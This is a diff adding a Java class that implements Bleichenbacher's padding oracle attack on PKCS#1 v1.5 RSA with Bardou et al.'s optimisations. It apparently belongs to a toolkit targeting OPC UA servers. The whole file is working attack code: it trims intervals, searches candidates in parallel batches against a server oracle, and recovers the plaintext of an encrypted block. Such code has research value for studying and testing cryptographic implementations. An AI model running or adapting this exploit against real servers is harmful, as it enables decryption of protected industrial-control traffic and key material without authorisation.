@@ -0,0 +1,297 @@
+package attacks.bleichenbacher;
+
+import attacks.manger.MangerUtility;
+import attacks.manger.oracle.Oracle;
+import attacks.manger.oracle.OracleException;
+import opcua.context.StaticConfig;
+import opcua.security.AsymCryptoUtility;
+
+import java.math.BigInteger;
+import java.security.interfaces.RSAPublicKey;
+import java.util.ArrayList;
+import java.util.Comparator;
+import java.util.List;
+import java.util.stream.Collectors;
+
+/**
+ * Implementation of Bleichenbacher's attack on PKCS#1 v1.5 with the improvements of Bardou et al. ("Efficient
+ * Padding Oracle Attacks on Cryptographic Hardware"): trimming of the initial interval, skipping holes in step 2.a and
+ * searching all intervals in parallel in step 2.b. Candidates are queried in batches, so an oracle with concurrent
+ * queries can process them in parallel. The oracle has to answer whether a cipher block is PKCS#1 conforming.
+ */
+public class BleichenbachersAttack {
+    /**
+     * Largest denominator t of the trimmers u/t that are queried in step 1
+     */
+    private static final int TRIMMER_DENOMINATOR_LIMIT = 50;
+    /**
+     * Largest distance between numerator u and denominator t of the trimmers that are queried in step 1
+     */
+    private static final int TRIMMER_NUMERATOR_DISTANCE = 2;
+    /**
+     * In step 2.c about every second candidate is conforming, so larger batches would mostly waste queries
+     */
+    private static final int SINGLE_INTERVAL_BATCH_SIZE = 2;
+
+    private final Oracle oracle;
+    private final BigInteger N;
+    private final BigInteger e;
+    private final BigInteger B;
+    private final BigInteger c;
+    private final int blockSize;
+    private final int batchSize;
+    private long queryLimit = 1000000;
+    private long queryCount;
+
+    /**
+     * Interval [a, b] that may contain the plaintext
+     */
+    private static class Interval {
+        private final BigInteger a;
+        private final BigInteger b;
+
+        Interval(BigInteger a, BigInteger b) {
+            this.a = a;
+            this.b = b;
+        }
+    }
+
+    /**
+     * Endless sequence of candidates for s
+     */
+    private interface CandidateGenerator {
+        BigInteger next();
+    }
+
+    /**
+     * Constructor. Queries are batched according to StaticConfig.ORACLE_CONCURRENCY.
+     * @param cipherBlock Initial PKCS#1 conforming cipher block
+     * @param oracle Oracle that is queried in the process
+     * @param publicKey The public key of the target server
+     */
+    public BleichenbachersAttack(byte[] cipherBlock, Oracle oracle, RSAPublicKey publicKey) {
+        this(cipherBlock, oracle, publicKey, StaticConfig.ORACLE_CONCURRENCY);
+    }
+
+    /**
+     * Constructor
+     * @param cipherBlock Initial PKCS#1 conforming cipher block
+     * @param oracle Oracle that is queried in the process
+     * @param publicKey The public key of the target server
+     * @param batchSize Number of candidates that are queried at once
+     */
+    public BleichenbachersAttack(byte[] cipherBlock, Oracle oracle, RSAPublicKey publicKey, int batchSize) {
+        if(batchSize < 1) {
+            throw new IllegalArgumentException("Batch size must be positive");
+        }
+        this.oracle = oracle;
+        this.N = publicKey.getModulus();
+        this.e = publicKey.getPublicExponent();
+        this.B = BleichenbacherUtility.computeB(publicKey);
+        this.c = new BigInteger(1, cipherBlock);
+        this.blockSize = N.bitLength() / 8;
+        this.batchSize = batchSize;
+    }
+
+    public byte[] executeAttack() throws OracleException {
+        //Step 1: c is already PKCS#1 conforming, so no blinding is necessary
+        List<Interval> intervals = new ArrayList<>();
+        intervals.add(trim());
+
+        //Step 2.a:
+        BigInteger s = search(List.of(skippingHolesCandidates(intervals.get(0))), batchSize);
+        intervals = narrow(intervals, s);                                                       //3
+
+        while(intervals.size() > 1 || !intervals.get(0).a.equals(intervals.get(0).b)) {       //4
+            List<CandidateGenerator> generators = new ArrayList<>(intervals.size());
+            for(Interval interval : intervals) {
+                generators.add(intervalCandidates(interval, s));                                //2.b, 2.c
+            }
+            s = search(generators, intervals.size() > 1 ? batchSize : Math.min(batchSize, SINGLE_INTERVAL_BATCH_SIZE));
+            intervals = narrow(intervals, s);                                                   //3
+        }
+        return AsymCryptoUtility.convertBigInteger(intervals.get(0).a, blockSize);
+    }
+
+    /**
+     * Trims the initial interval [2B, 3B-1]. If c*(u/t)^e is conforming for coprime u and t, t divides m and
+     * 2B <= m*u/t < 3B. All trimmers are queried in one batch.
+     */
+    private Interval trim() throws OracleException {
+        List<long[]> trimmers = new ArrayList<>();
+        for(long t = 2; t <= TRIMMER_DENOMINATOR_LIMIT; t++) {
+            for(long u = t - TRIMMER_NUMERATOR_DISTANCE; u <= t + TRIMMER_NUMERATOR_DISTANCE; u++) {
+                if(u != t && 3*u > 2*t && 2*u < 3*t && BigInteger.valueOf(u).gcd(BigInteger.valueOf(t)).equals(BigInteger.ONE)) {
+                    trimmers.add(new long[]{u, t});
+                }
+            }
+        }
+        List<BigInteger> fractions = trimmers.stream()
+                .map(trimmer -> BigInteger.valueOf(trimmer[0]).multiply(BigInteger.valueOf(trimmer[1]).modInverse(N)).mod(N))
+                .collect(Collectors.toList());
+        List<Boolean> answers = query(fractions);
+
+        BigInteger a = B.shiftLeft(1);
+        BigInteger b = B.multiply(BigInteger.valueOf(3)).subtract(BigInteger.ONE);
+        for(int i=0; i<trimmers.size(); i++) {
+            if(answers.get(i)) {
+                BigInteger u = BigInteger.valueOf(trimmers.get(i)[0]);
+                BigInteger t = BigInteger.valueOf(trimmers.get(i)[1]);
+                a = a.max(MangerUtility.divideCeiling(B.shiftLeft(1).multiply(t), u));
+                b = b.min(B.multiply(BigInteger.valueOf(3)).subtract(BigInteger.ONE).multiply(t).divide(u));
+            }
+        }
+        return new Interval(a, b);
+    }
+
+    /**
+     * Candidates for step 2.a, starting at (N+2B)/b. Values of s for which m*s mod N cannot lie in [2B, 3B) for any
+     * wrap-around j are skipped.
+     */
+    private CandidateGenerator skippingHolesCandidates(Interval interval) {
+        return new CandidateGenerator() {
+            private BigInteger j = BigInteger.ONE;
+            private BigInteger s = MangerUtility.divideCeiling(N.add(B.shiftLeft(1)), interval.b);
+            private BigInteger upper = upperBound(j);
+
+            private BigInteger upperBound(BigInteger j) {
+                return B.multiply(BigInteger.valueOf(3)).subtract(BigInteger.ONE).add(j.multiply(N)).divide(interval.a);
+            }
+
+            @Override
+            public BigInteger next() {
+                while(s.compareTo(upper) > 0) {
+                    j = j.add(BigInteger.ONE);
+                    s = s.max(MangerUtility.divideCeiling(B.shiftLeft(1).add(j.multiply(N)), interval.b));
+                    upper = upperBound(j);
+                }
+                BigInteger candidate = s;
+                s = s.add(BigInteger.ONE);
+                return candidate;
+            }
+        };
+    }
+
+    /**
+     * Candidates for step 2.c for a single interval, continuing after the previous s
+     */
+    private CandidateGenerator intervalCandidates(Interval interval, BigInteger previousS) {
+        return new CandidateGenerator() {
+            private BigInteger r = MangerUtility.divideCeiling(interval.b.multiply(previousS).subtract(B.shiftLeft(1)).shiftLeft(1), N);
+            private BigInteger s = lowerBound(r);
+            private BigInteger upper = upperBound(r);
+
+            private BigInteger lowerBound(BigInteger r) {
+                return MangerUtility.divideCeiling(B.shiftLeft(1).add(r.multiply(N)), interval.b);
+            }
+
+            private BigInteger upperBound(BigInteger r) {
+                return MangerUtility.divideCeiling(B.multiply(BigInteger.valueOf(3)).add(r.multiply(N)), interval.a).subtract(BigInteger.ONE);
+            }
+
+            @Override
+            public BigInteger next() {
+                while(s.compareTo(upper) > 0) {
+                    r = r.add(BigInteger.ONE);
+                    s = lowerBound(r);
+                    upper = upperBound(r);
+                }
+                BigInteger candidate = s;
+                s = s.add(BigInteger.ONE);
+                return candidate;
+            }
+        };
+    }
+
+    /**
+     * Queries candidates in batches, taking them from the generators in turn, until a conforming one is found
+     * @return The first conforming candidate of the batch
+     */
+    private BigInteger search(List<CandidateGenerator> generators, int size) throws OracleException {
+        while(true) {
+            List<BigInteger> candidates = new ArrayList<>(size);
+            for(int i=0; candidates.size() < size; i++) {
+                candidates.add(generators.get(i % generators.size()).next());
+            }
+            List<Boolean> answers = query(candidates);
+            for(int i=0; i<candidates.size(); i++) {
+                if(answers.get(i)) {
+                    return candidates.get(i);
+                }
+            }
+        }
+    }
+
+    /**
+     * Step 3: Narrows the intervals for a conforming s and merges overlapping results
+     */
+    private List<Interval> narrow(List<Interval> intervals, BigInteger s) throws OracleException {
+        BigInteger twoB = B.shiftLeft(1);
+        BigInteger threeBMinusOne = B.multiply(BigInteger.valueOf(3)).subtract(BigInteger.ONE);
+        List<Interval> narrowed = new ArrayList<>();
+        for(Interval interval : intervals) {
+            BigInteger r = MangerUtility.divideCeiling(interval.a.multiply(s).subtract(threeBMinusOne), N);
+            BigInteger rMax = interval.b.multiply(s).subtract(twoB).divide(N);
+            for(; r.compareTo(rMax) <= 0; r = r.add(BigInteger.ONE)) {
+                BigInteger a = interval.a.max(MangerUtility.divideCeiling(twoB.add(r.multiply(N)), s));
+                BigInteger b = interval.b.min(threeBMinusOne.add(r.multiply(N)).divide(s));
+                if(a.compareTo(b) <= 0) {
+                    narrowed.add(new Interval(a, b));
+                }
+            }
+        }
+        if(narrowed.isEmpty()) {
+            throw new OracleException("No interval left, the oracle answered inconsistently");
+        }
+        return merge(narrowed);
+    }
+
+    private static List<Interval> merge(List<Interval> intervals) {
+        intervals.sort(Comparator.comparing((Interval interval) -> interval.a));
+        List<Interval> merged = new ArrayList<>();
+        Interval current = intervals.get(0);
+        for(Interval interval : intervals.subList(1, intervals.size())) {
+            if(interval.a.compareTo(current.b.add(BigInteger.ONE)) <= 0) {
+                current = new Interval(current.a, current.b.max(interval.b));
+            } else {
+                merged.add(current);
+                current = interval;
+            }
+        }
+        merged.add(current);
+        return merged;
+    }
+
+    /**
+     * Queries c*s^e mod N for all factors. The cipher blocks are computed on all cores.
+     */
+    private List<Boolean> query(List<BigInteger> factors) throws OracleException {
+        if(queryCount + factors.size() > queryLimit) {
+            throw new OracleException("Attack exceeded query limit");
+        }
+        queryCount += factors.size();
+        List<byte[]> queries = factors.parallelStream()
+                .map(s -> AsymCryptoUtility.convertBigInteger(s.modPow(e, N).multiply(c).mod(N), blockSize))
+                .collect(Collectors.toList());
+        return oracle.checkValidity(queries);
+    }
+
+    /**
+     * Returns the number of queries of the attack
+     */
+    public long getQueryCount() {
+        return queryCount;
+    }
+
+    public long getQueryLimit() {
+        return queryLimit;
+    }
+
+    /**
+     * Sets the number of queries after which the attack is aborted
+     * @param queryLimit Maximum number of queries
+     */
+    public void setQueryLimit(long queryLimit) {
+        this.queryLimit = queryLimit;
+    }
+}